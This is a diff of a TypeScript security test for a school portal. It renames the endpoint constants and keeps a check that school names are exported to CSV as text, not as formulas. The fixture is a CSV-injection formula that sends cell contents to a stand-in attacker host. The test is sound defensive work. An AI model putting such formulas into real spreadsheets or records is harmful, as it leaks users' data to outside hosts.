@@ -1,5 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { SCHOOL_PATHS } from '../../../contract/schools';
+import { SCHOOL_ENDPOINTS } from '../../../contract/schools.endpoints';
 import { demoSignIns } from '../fixtures';
 import { startTestPortal, type TestPortal } from '../portal';
 
@@ -45,12 +45,12 @@ describe('stored XSS', () => {
 
   it('a school named like a formula is exported as text, not a formula', async () => {
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
-    const created = await t.request('POST', SCHOOL_PATHS.list, {
+    const created = await t.request('POST', SCHOOL_ENDPOINTS.create.path, {
       token: tokens.admin,
       json: { name: formula, code: 'XSS-01', state: 'Oyo', country: 'NG' },
     });
     expect(created.status, JSON.stringify(created.body)).toBe(200);
-    const csv = await t.request('GET', `${SCHOOL_PATHS.list}?format=csv&search=HYPERLINK`, {
+    const csv = await t.request('GET', `${SCHOOL_ENDPOINTS.list.path}?format=csv&search=HYPERLINK`, {
       token: tokens.admin,
     });
     expect(csv.status).toBe(200);
